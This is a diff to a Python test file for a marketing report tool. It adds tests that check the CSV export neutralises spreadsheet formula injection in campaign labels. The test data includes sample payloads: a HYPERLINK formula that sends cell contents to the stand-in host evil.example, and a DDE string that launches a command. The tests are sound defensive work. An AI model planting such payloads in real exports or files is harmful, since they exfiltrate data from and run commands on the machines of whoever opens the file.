@@ -25,6 +25,7 @@ from tests.support.clickhouse import insert_rows
 from tracker.reports.attribution import MODELS
 from tracker.reports.campaign import METRICS, Report, campaign_report, round_half_up
 from tracker.reports.query import GROUP_KEYS, ReportQuery
+from tracker.reports.spreadsheet import spreadsheet_cell
 from tracker.settings import Settings
 
 NOW = datetime(2026, 12, 1, 9, 30, tzinfo=UTC)
@@ -429,6 +430,35 @@ def test_to_csv_has_the_documented_header_and_fixed_point_numbers(clickhouse: Cl
     assert rows[1]["campaign"] == "summer" and rows[1]["aov"] == "" and rows[1]["conversion_rate"] == ""
 
 
+
+
+FORMULA_LABELS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
+                  "\tTAB=1", "\rCR=1"]
+
+
+def test_to_csv_prefixes_text_cells_a_spreadsheet_would_run_and_keeps_negative_numbers_numeric(
+    clickhouse: Client,
+) -> None:
+    clicks = [click(f"c{n}", T - HOUR, campaign=label, recipient_ref=f"r{n}") for n, label in enumerate(FORMULA_LABELS)]
+    clicks.append(click("plain", T - HOUR, campaign="spring-sale", recipient_ref="rp"))
+    # More refunded than bought in the period: the campaign's net revenue is negative.
+    insert_rows(clickhouse, clicks, [purchase("o1", T, "10", click_id="c0"), refund("o1", T + HOUR, "22.50")])
+    report = run(clickhouse, group_by="campaign")
+    rows = {row["campaign"]: row for row in csv.DictReader(io.StringIO(report.to_csv()))}
+    assert sorted(rows) == sorted(["'" + label for label in FORMULA_LABELS] + ["spring-sale"])
+    assert rows["'" + FORMULA_LABELS[0]]["net_revenue"] == "-12.50"  # a number, not "'-12.50"
+    assert rows["'" + FORMULA_LABELS[0]]["refunds"] == "22.50"
+    assert all(not value.startswith("'") for row in rows.values() for key, value in row.items() if key in METRICS)
+    # The JSON keeps the labels as they are: only the CSV is for spreadsheets.
+    assert sorted(row["campaign"] for row in report.to_json()["rows"]) == sorted([*FORMULA_LABELS, "spring-sale"])
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("a=b", "a=b"), ("", ""), (None, ""), (Decimal("-12.50"), "-12.50"), (-3, "-3"), (-0.25, "-0.25"),
+])
+def test_a_spreadsheet_cell_is_guarded_by_its_type_not_its_look(value: object, cell: str) -> None:
+    assert spreadsheet_cell(value) == cell
 
 
 # --- acceptance: a generated month against an independent implementation --------------------------------
